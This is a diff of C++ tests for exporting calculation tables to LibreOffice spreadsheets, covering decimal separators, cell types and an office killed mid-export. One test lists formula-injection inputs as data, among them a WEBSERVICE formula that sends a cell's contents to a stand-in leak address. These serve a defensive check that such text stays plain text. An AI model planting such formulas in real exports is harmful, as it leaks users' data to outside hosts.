@@ -37,42 +37,109 @@ protected:
         ASSERT_EQ(batch::calculateBatchWeights(table, summary, 2), QString());
     }
 
+    // Exports the table into a new spreadsheet of the office and gives the session to read it back.
+    static std::shared_ptr<OfficeSession> exported(const TestOffice& target, const batch::TextGrid& table,
+                                                   bool wrap) {
+        LibreOfficeClient client(target.settings());
+        client.keepLastSession(true);
+        bool started = false;
+        exporting::exportToSpreadsheet(client, table, wrap, [&] { started = true; });
+        EXPECT_TRUE(started);
+        return client.lastSession();
+    }
+
+    // Every cell of the sheet against the table: a text that the program reads as a number is a
+    // number of that value, any other text is that text, the empty text an empty cell.
+    static void expectCellsOf(OfficeSession& session, const batch::TextGrid& table) {
+        for (int c = 0; c < table.columnCount(); ++c)
+            for (int r = 0; r < table.rowCount(); ++r) {
+                const QString text = table.cell(c, r);
+                const OfficeSession::Cell cell = session.cell(0, r, c);
+                batch::Extended number = 0;
+                if (text.isEmpty()) {
+                    EXPECT_EQ(cell.type, OfficeSession::Cell::Empty) << c << "," << r;
+                } else if (batch::tryTextToNumber(text, number)) {
+                    EXPECT_EQ(cell.type, OfficeSession::Cell::Number) << text.toStdString();
+                    EXPECT_EQ(cell.value, static_cast<double>(number)) << text.toStdString();
+                } else {
+                    EXPECT_EQ(cell.type, OfficeSession::Cell::Text) << text.toStdString();
+                    EXPECT_EQ(cell.text.toStdString(), text.toStdString());
+                }
+            }
+    }
+
     static TestOffice* office;
 };
 
 TestOffice* LibreOfficeExport::office = nullptr;
 
-TEST_F(LibreOfficeExport, SpreadsheetHoldsEveryCellAsTypedUnderARussianOffice) {
+TEST_F(LibreOfficeExport, SpreadsheetHoldsNumbersAsNumbersAndShowsThemAsTheTableUnderARussianOffice) {
     batch::TextGrid table;
     computeBatch(table);
     ASSERT_EQ(table.cell(4, 1), QStringLiteral("74,4135"));
     for (const bool wrap : {true, false}) {
-        LibreOfficeClient client(office->settings());
-        client.keepLastSession(true);
-        bool started = false;
-        exporting::exportToSpreadsheet(client, table, wrap, [&] { started = true; });
-        EXPECT_TRUE(started);
-        const std::shared_ptr<OfficeSession> session = client.lastSession();
+        const std::shared_ptr<OfficeSession> session = exported(*office, table, wrap);
         ASSERT_TRUE(session);
+        expectCellsOf(*session, table);
+        // A Russian office shows every cell as the table does, numbers with their decimal comma.
         for (int c = 0; c < table.columnCount(); ++c)
-            for (int r = 0; r < table.rowCount(); ++r) {
-                const QString text = table.cell(c, r);
-                const OfficeSession::Cell cell = session->cell(0, r, c);
-                batch::Extended number = 0;
-                const OfficeSession::Cell::Type expected = text.isEmpty() ? OfficeSession::Cell::Empty
-                                                           : batch::tryTextToNumber(text, number)
-                                                               ? OfficeSession::Cell::Number
-                                                               : OfficeSession::Cell::Text;
-                EXPECT_EQ(cell.text, text) << c << "," << r;
-                EXPECT_EQ(cell.type, expected) << text.toStdString();
-                if (expected == OfficeSession::Cell::Number) {
-                    EXPECT_DOUBLE_EQ(cell.value, static_cast<double>(number)) << text.toStdString();
-                }
-            }
+            for (int r = 0; r < table.rowCount(); ++r)
+                EXPECT_EQ(session->cell(0, r, c).text.toStdString(), table.cell(c, r).toStdString())
+                    << c << "," << r;
+        EXPECT_EQ(session->cell(0, 1, 1).text, QStringLiteral("60,0848"));
         // The wrap goes to the selection of the new sheet, its first cell.
         EXPECT_EQ(session->cell(0, 0, 0).wrapped, wrap);
         session->closeDocument();
     }
+}
+
+// Under an office whose decimal separator is not the program's, the numbers are still numbers of
+// the same value, shown the office's way; a text is not mistaken for one.
+TEST_F(LibreOfficeExport, NumbersStayNumbersUnderAnEnglishOffice) {
+    TestOffice english(QStringLiteral("en-US"), QStringLiteral("-en"));
+    batch::TextGrid table;
+    computeBatch(table);
+    table.setCell(0, 3, QStringLiteral("60.0848")); // not a number of the program's text: text
+    const std::shared_ptr<OfficeSession> session = exported(english, table, false);
+    ASSERT_TRUE(session);
+    expectCellsOf(*session, table);
+    EXPECT_EQ(session->cell(0, 1, 1).text, QStringLiteral("60.0848"));
+    EXPECT_EQ(session->cell(0, 3, 0).type, OfficeSession::Cell::Text);
+    session->closeDocument();
+}
+
+// A calculation file may hold any text in any cell. Whatever its first character, a text that is
+// not a number reaches the sheet as that text: never a formula, which could fetch a web address
+// with the other cells in it or read other files.
+TEST_F(LibreOfficeExport, TextsThatLookLikeFormulasStayText) {
+    const QStringList texts{
+        QStringLiteral("=WEBSERVICE(\"http://127.0.0.1:9/leak?\"&A2)"),
+        QStringLiteral("=1+1"),
+        QStringLiteral("+1+1"),
+        QStringLiteral("-1-1"),
+        QStringLiteral("@SUM(A1:A3)"),
+        QStringLiteral("=HYPERLINK(\"http://127.0.0.1:9/\";\"x\")"),
+        QStringLiteral("'=1"),
+        QStringLiteral("1,2,3"),
+        QStringLiteral(" 75 "), // a number of the program's text, blanks and all
+        QStringLiteral("-2,5E-3"),
+        QStringLiteral("SiO2"),
+    };
+    batch::setDecimalSeparator(QLatin1Char(','));
+    batch::TextGrid table(1, static_cast<int>(texts.size()));
+    for (int r = 0; r < texts.size(); ++r)
+        table.setCell(0, r, texts[r]);
+    const std::shared_ptr<OfficeSession> session = exported(*office, table, false);
+    ASSERT_TRUE(session);
+    expectCellsOf(*session, table);
+    for (int r = 0; r < 8; ++r) {
+        const OfficeSession::Cell cell = session->cell(0, r, 0);
+        EXPECT_EQ(cell.type, OfficeSession::Cell::Text) << texts[r].toStdString();
+        EXPECT_EQ(cell.text.toStdString(), texts[r].toStdString());
+    }
+    EXPECT_EQ(session->cell(0, 8, 0).value, 75);
+    EXPECT_EQ(session->cell(0, 9, 0).value, -0.0025);
+    session->closeDocument();
 }
 
 TEST_F(LibreOfficeExport, TextDocumentHoldsOneEmbeddedPictureOfItsPixelSize) {
@@ -94,6 +161,38 @@ TEST_F(LibreOfficeExport, TextDocumentHoldsOneEmbeddedPictureOfItsPixelSize) {
     EXPECT_EQ(pictures.widthPixels, 362);
     EXPECT_EQ(pictures.heightPixels, 693);
     client.lastSession()->closeDocument();
+}
+
+// A failing call of the office reaches the user in its own words. An office that goes away in the
+// middle of an export (here killed once it has answered the start) ends the export with a text that
+// says so, not with the office's connection jargon.
+TEST_F(LibreOfficeExport, FailuresKeepTheirTextAndAnOfficeGoneMidExportIsSaidToBeGone) {
+    class KillingClient : public LibreOfficeClient {
+    public:
+        explicit KillingClient(TestOffice& target) : LibreOfficeClient(target.settings()), target_(target) {}
+        std::unique_ptr<exporting::SpreadsheetApplication> startSpreadsheet(const QString& progId) override {
+            auto application = LibreOfficeClient::startSpreadsheet(progId);
+            EXPECT_GE(target_.signal(SIGKILL), 1);
+            for (int i = 0; i < 300 && target_.signal(0) > 0; ++i)
+                QThread::msleep(100);
+            return application;
+        }
+
+    private:
+        TestOffice& target_;
+    };
+    TestOffice killed(QStringLiteral("ru-RU"), QStringLiteral("-killed"));
+    {
+        const std::shared_ptr<OfficeSession> session = LibreOfficeClient(killed.settings()).connect();
+        session->newDocument(true, false);
+        EXPECT_EQ(failureOf([&] { session->cell(7, 0, 0); }), QStringLiteral("Недопустимый номер листа"));
+        session->closeDocument();
+    }
+    batch::TextGrid table;
+    computeBatch(table);
+    KillingClient client(killed);
+    EXPECT_EQ(failureOf([&] { exporting::exportToSpreadsheet(client, table, false); }),
+              exporting::kOfficeGone);
 }
 
 // Without the office or its plugin, or with an office that never answers, starting fails with a
